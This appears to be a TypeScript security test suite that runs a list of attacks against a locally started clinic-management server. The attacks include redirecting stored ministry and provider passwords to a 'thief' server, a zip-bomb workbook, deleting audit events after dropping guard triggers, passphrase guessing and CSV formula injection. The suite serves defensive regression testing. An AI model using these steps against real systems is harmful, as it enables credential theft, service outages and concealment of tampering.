import { chmodSync, mkdirSync, readdirSync, statSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { readTypedKey } from '../../src/core/keys/recovery-key.ts'
import { openConnection, STORE_FILE } from '../../src/core/store/connection.sqlite.ts'
import { unlockWith } from '../../src/host/store-key/store-key.ts'
import { aPatient } from '../support/fixtures.ts'
import { newFolder } from '../support/process.ts'
import { manyAttributes } from '../support/rips-xml.ts'
import { thief } from '../support/thief.ts'
import { archiveOf, bombOf, entryOf, workbookOf } from '../support/zip.ts'
import {
  ADMIN_PHONE,
  host,
  keyed,
  member,
  PASSPHRASE,
  PASSWORD,
  setup,
  signIn,
  stopped,
  type Target,
  type Victim,
  victim,
} from './target.ts'

/** What the review did to the running host, whichever was built in `program`; true: it succeeds. */
export interface Attack {
  /** Of the review. */
  readonly line: number
  readonly name: string
  readonly succeeds: (program: string) => Promise<boolean>
}

type OnVictim = (at: Victim) => Promise<boolean>
const attack = (line: number, name: string, on: OnVictim): Attack => ({
  line,
  name,
  succeeds: async (program) => on(await victim(program)),
})

const SECRET = 'solo-la-sabe-la-clinica'
const DAY_MS = 86_400_000
const base64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64')

const stolenFromMinistry: OnVictim = async ({ ask, ws, token }) => {
  const their = await thief()
  const path = `${ws}/connections/ministry`
  const account = { documentType: 'CC', documentNumber: '52000001', userType: 'RE' }
  const put = (body: object) => ask('PUT', path, { token, body: { ...account, ...body } })
  await put({ baseUrl: 'https://127.0.0.1:9', certificateSha256: 'a'.repeat(64), password: SECRET })
  await put({ baseUrl: their.tls, certificateSha256: their.certificateSha256 })
  await ask('POST', `${path}/test`, { token })
  their.close()
  return their.told().includes(SECRET)
}

const stolenFromProvider: OnVictim = async ({ ask, ws, token }) => {
  const their = await thief()
  const path = `${ws}/connections/invoice-provider`
  const factus = { provider: 'factus', username: 'a@clinica.test', clientId: 'clinica' }
  const put = (body: object) => ask('PUT', path, { token, body: { ...factus, ...body } })
  await put({ baseUrl: 'https://127.0.0.1:9', clientSecret: SECRET, password: SECRET })
  await put({ baseUrl: their.plain })
  await ask('POST', `${path}/test`, { token })
  their.close()
  return their.told().includes(SECRET)
}

/** Of the whole life of the process, in bytes. */
const mostMemory = async ({ program }: Target) =>
  Number(/VmHWM:\s+(\d+)/.exec(await readFile(`/proc/${program.child.pid}/status`, 'utf8'))?.[1]) * 1024

const BOMB_BLOCKS = 48
const workbookBomb: OnVictim = async (at) => {
  const bomb = bombOf('xl/media/image1.bin', BOMB_BLOCKS)
  const entries = Object.entries(workbookOf('')).map(([name, content]) => entryOf(name, content))
  const body = { area: 'patients', fileName: 'p.xlsx', contentBase64: base64(archiveOf([...entries, bomb])) }
  const before = await mostMemory(at)
  await at.ask('POST', `${at.ws}/imports`, { token: at.token, body, headers: keyed() })
  return (await mostMemory(at)) - before > bomb.bytes / 2
}

async function dataKey({ ask, token, dataDir }: Victim): Promise<Uint8Array> {
  const shown = await ask('POST', '/api/v1/recovery-key', { token, body: { currentPassword: PASSWORD } })
  const printed = readTypedKey(((shown.json.groups ?? []) as string[]).join(' '))
  if ('key' in printed && opens(dataDir, printed.key)) return printed.key
  return (await unlockWith(dataDir, PASSPHRASE)).key
}

function opens(dataDir: string, key: Uint8Array): boolean {
  try {
    openConnection(join(dataDir, STORE_FILE), key, true).close()
    return true
  } catch {
    return false
  }
}

/** Patients that the trail tells of, so that there is something to cut off. */
async function aPast({ ask, ws, token }: Victim, patients: number): Promise<void> {
  for (let i = 0; i < patients; i++) {
    await ask('POST', `${ws}/patients`, { token, body: aPatient(), headers: keyed() })
  }
}

const trailCut =
  (program: string): OnVictim =>
  async (at) => {
    await aPast(at, 20)
    const key = await dataKey(at)
    await stopped(at)
    const file = openConnection(join(at.dataDir, STORE_FILE), key)
    for (const guard of ['audit_events_are_final', 'audit_events_stay']) file.exec(`DROP TRIGGER ${guard}`)
    file.exec('DELETE FROM audit_events WHERE sequence > (SELECT max(sequence) - 8 FROM audit_events)')
    file.close()
    const again = await host(program, { dataDir: at.dataDir })
    const token = await signIn(again, ADMIN_PHONE, PASSWORD)
    const verdict = async () => (await again.ask('GET', `${at.ws}/audit-trail`, { token })).json.status
    for (let tries = 0; (await verdict()) === 'checking' && tries < 100; tries++) await sleep(100)
    return (await verdict()) !== 'broken'
  }

const untracedRead: OnVictim = async (at) => {
  const { ask, ws, token } = at
  const { json } = await ask('POST', `${ws}/patients`, { token, body: aPatient(), headers: keyed() })
  const viewer = await member(at, 'viewer')
  await ask('GET', `${ws}/patients/${json.id}`, { token: viewer.token })
  await sleep(3_000)
  const { text } = await ask('GET', `${ws}/audit-events?limit=100`, { token })
  return !text.includes('"patients.get"')
}

const viewerExports: OnVictim = async (at) => {
  await aPast(at, 3)
  const viewer = await member(at, 'viewer')
  const taken = await at.ask('GET', `${at.ws}/exports/patients?format=csv`, { token: viewer.token })
  return taken.status === 200 && taken.text.includes('Ceiba')
}

async function strangerSetsUp(program: string): Promise<boolean> {
  const target = await host(program)
  return (await target.ask('POST', '/api/v1/setup', { body: setup() })).status === 201
}

async function aToken({ ask, ws }: Victim, token: string): Promise<string> {
  const workspaceIds = [ws.split('/').at(-1)]
  const expiresAt = new Date(Date.now() + DAY_MS).toISOString()
  const body = { name: 'Mi programa', scopes: ['read'], workspaceIds, expiresAt }
  const { json } = await ask('POST', '/api/v1/account/access-tokens', { token, body })
  return String(json.secret)
}

/** What the administrator does with somebody who leaves, one after the other. */
const tokenOutlives =
  (...changes: readonly object[]): OnVictim =>
  async (at) => {
    const { ask, ws, token } = at
    const gone = await member(at, 'operator')
    const secret = await aToken(at, gone.token)
    const reads = async () => (await ask('GET', `${ws}/patients`, { token: secret })).status === 200
    if (!(await reads())) throw new Error('the token was never good')
    for (const body of changes) {
      const { json } = await ask('GET', `${ws}/members`, { token })
      const found = (json.items as { userId: string; revision: number }[]).find(({ userId }) => userId === gone.userId)
      const headers = { 'if-match': `"${found?.revision}"`, ...keyed() }
      const changed = await ask('PATCH', `${ws}/members/${gone.userId}`, { token, body, headers })
      if (changed.status !== 200) throw new Error(changed.text)
    }
    return reads()
  }

/** Nobody can stand beside the only administrator of the installation, whose password is all that there is. */
const alone: OnVictim = async (at) => {
  const { phone } = await member(at, 'admin')
  const body = { phone, currentPassword: PASSWORD }
  return (await at.ask('POST', '/api/v1/platform-admins', { token: at.token, body, headers: keyed() })).status !== 201
}

/** The longest that anybody else waits meanwhile, beside the least that anybody waits. */
const stalled: OnVictim = async ({ ask, ws, token }) => {
  const contentBase64 = base64(manyAttributes())
  const body = { kind: 'invoice', rips: { usuarios: [] }, attachedDocument: { fileName: 'a.xml', contentBase64 } }
  let over = false
  const sent = ask('POST', `${ws}/rips-packages`, { token, body, headers: keyed() }).finally(() => {
    over = true
  })
  let longest = 0
  while (!over) {
    const began = performance.now()
    // One that is kept waiting for half a minute may lose its connection.
    await ask('GET', '/api/v1/health').catch(() => undefined)
    longest = Math.max(longest, performance.now() - began)
    await sleep(10)
  }
  await sent
  return longest > 2_000
}

/** With the token, where one is asked for: whoever guesses sits at the computer. */
async function guesser(program: string, dataDir: string) {
  const target = await host(program, { dataDir, env: {} })
  const line = JSON.parse(target.program.output.stdout) as { setupToken?: string }
  const headers = {
    'content-type': 'application/json',
    ...(line.setupToken ? { authorization: `Bearer ${line.setupToken}` } : {}),
  }
  const post = (passphrase: string, again?: string) =>
    fetch(`${target.url}/unlock`, { method: 'POST', headers, body: JSON.stringify({ passphrase, again }) })
  return { target, headers, post }
}

const GUESSES = 12
/** Each of them is judged, and none has to wait, not even over a new start. */
async function guessesOn(program: string): Promise<boolean> {
  const at = await victim(program)
  await stopped(at)
  let judged = 0
  for (const guesses of [GUESSES - 1, 1]) {
    const { target, post } = await guesser(program, at.dataDir)
    for (let i = 0; i < guesses; i++)
      judged += Number((await (await post(`no es esta, la ${i}`)).text()).includes('no es la de estos datos'))
    await stopped(target)
  }
  return judged === GUESSES
}

async function weakPassphrase(program: string): Promise<boolean> {
  const { post } = await guesser(program, newFolder())
  return (await post('aaaaaaaaaaaa', 'aaaaaaaaaaaa')).ok
}

const PIECE = new Uint8Array(1024 * 1024).fill(32)
const PIECES = 400
/** A body without a length is kept as it comes, before anybody has shown who they are. */
async function chunkedBody(program: string): Promise<boolean> {
  const { target, headers } = await guesser(program, newFolder())
  let left = PIECES
  const body = new ReadableStream({
    pull(controller) {
      if (left-- > 0) controller.enqueue(PIECE)
      else controller.close()
    },
  })
  const before = await mostMemory(target)
  await fetch(`${target.url}/unlock`, { method: 'POST', headers, body, duplex: 'half' } as RequestInit)
  return (await mostMemory(target)) - before > (PIECES * PIECE.length) / 2
}

const weakPassword: OnVictim = async ({ ask, ws, token }) => {
  const body = { phone: '+573109990001', role: 'viewer', password: '1234567890', firstName: 'Aliso', lastName: 'Sauce' }
  return (await ask('POST', `${ws}/members`, { token, body, headers: keyed() })).status === 201
}

/** Whoever set the password goes on knowing it. */
const handedOver: OnVictim = async ({ ask, ws, token }) => {
  const phone = '+573109990002'
  const body = { phone, role: 'viewer', password: PASSWORD, firstName: 'Aliso', lastName: 'Sauce' }
  await ask('POST', `${ws}/members`, { token, body, headers: keyed() })
  const session = await fetchedToken(ask, phone)
  return (await ask('GET', `${ws}/patients`, { token: session })).status === 200
}
const fetchedToken = async (ask: Victim['ask'], phone: string) =>
  String((await ask('POST', '/api/v1/sessions', { body: { phone, password: PASSWORD } })).json.token)

const streamOutlives: OnVictim = async (at) => {
  const gone = await member(at, 'operator')
  const { url, ws, ask, token } = at
  const stream = await fetch(`${url}${ws}/events`, { headers: { authorization: `Bearer ${gone.token}` } })
  const ended = stream.text().then(
    () => 'ended',
    () => 'ended',
  )
  await ask('DELETE', `${ws}/members/${gone.userId}`, { token, headers: keyed() })
  return (await Promise.race([ended, sleep(5_000, 'open')])) === 'open'
}

const sheetIsKey: OnVictim = async ({ ask, token, dataDir }) => {
  const { json } = await ask('POST', '/api/v1/recovery-key', { token, body: { currentPassword: PASSWORD } })
  const printed = readTypedKey(((json.groups ?? []) as string[]).join(' '))
  if (!('key' in printed)) throw new Error('no sheet')
  return opens(dataDir, printed.key)
}

const folderInside: OnVictim = async ({ ask, token, dataDir }) => {
  const inside = join(dataDir, 'copias')
  mkdirSync(inside)
  const body = { folder: inside.replace(/\/([^/]+)\/copias$/, '//$1/copias') }
  return (await ask('PUT', '/api/v1/backups/folder', { token, body, headers: keyed() })).status === 200
}

const sniffable: OnVictim = async ({ ask }) =>
  (await ask('GET', '/api/v1/health')).headers.get('x-content-type-options') !== 'nosniff'

const fullWidthFormula: OnVictim = async ({ ask, ws, token }) => {
  const body = aPatient({ firstName: '＝1+1' })
  await ask('POST', `${ws}/patients`, { token, body, headers: keyed() })
  const { text } = await ask('GET', `${ws}/exports/patients?format=csv`, { token })
  return /(^|[,;"\n])＝1\+1/.test(text)
}

const READ_BY_OTHERS = 0o077
/** Files in a folder that everybody may look into. */
async function readable(program: string): Promise<boolean> {
  const dataDir = newFolder()
  chmodSync(dataDir, 0o755)
  await victim(program, { dataDir })
  const files = readdirSync(dataDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
  return files.some(({ parentPath, name }) => statSync(join(parentPath, name)).mode & READ_BY_OTHERS)
}

/** The administrator of another clinic of the same installation asks whose number that is. */
const namesStranger: OnVictim = async (at) => {
  const { phone } = await member(at, 'viewer')
  const body = { nit: '860002964', companyName: 'Otra', displayName: 'Otra', environment: 2 }
  const { json } = await at.ask('POST', '/api/v1/workspaces', { token: at.token, body, headers: keyed() })
  const elsewhere = { ...at, ws: `/api/v1/workspaces/${json.id}` }
  const their = await member(elsewhere, 'admin', 'Drago')
  const asked = { token: their.token, body: { phone, role: 'viewer' }, headers: keyed() }
  return (await at.ask('POST', `${elsewhere.ws}/members`, asked)).text.includes('Aliso')
}

export const ATTACKS: readonly Attack[] = [
  attack(1, "the ministry's password is sent to another server", stolenFromMinistry),
  attack(1, "the provider's password is sent elsewhere over plain HTTP", stolenFromProvider),
  attack(2, 'a workbook of under a megabyte takes hundreds of memory', workbookBomb),
  {
    line: 3,
    name: 'the last events are cut off, and nobody says so',
    succeeds: async (program) => trailCut(program)(await victim(program)),
  },
  attack(4, 'a patient is read without a trace', untracedRead),
  attack(4, 'a viewer takes all patients away', viewerExports),
  { line: 5, name: 'a stranger becomes the first administrator', succeeds: strangerSetsUp },
  attack(
    7,
    'a token outlives the password that an administrator sets',
    tokenOutlives({ password: 'sauce-tilo-arce-91' }),
  ),
  attack(
    7,
    'a token is good again when its owner is let in again',
    tokenOutlives({ enabled: false }, { enabled: true }),
  ),
  attack(8, 'the installation hangs on one person', alone),
  attack(9, 'a million attributes keep everybody waiting', stalled),
  { line: 10, name: 'a body in chunks has no bound', succeeds: chunkedBody },
  { line: 10, name: 'passphrases are guessed one after the other', succeeds: guessesOn },
  { line: 10, name: 'a passphrase of one letter is taken', succeeds: weakPassphrase },
  attack(11, 'a password of ten digits in a row is taken', weakPassword),
  attack(11, 'a password that somebody else set opens the clinic', handedOver),
  attack(12, 'events go on after the membership ended', streamOutlives),
  attack(13, 'the printed sheet is the key of the data', sheetIsKey),
  attack(15, 'copies go into the folder of the data by another spelling', folderInside),
  attack(15, 'an answer may be taken for a page', sniffable),
  attack(15, 'a formula in full-width letters is exported as it is', fullWidthFormula),
  { line: 15, name: 'files may be read by others of the computer', succeeds: readable },
  attack(15, 'a phone number tells whose it is', namesStranger),
]
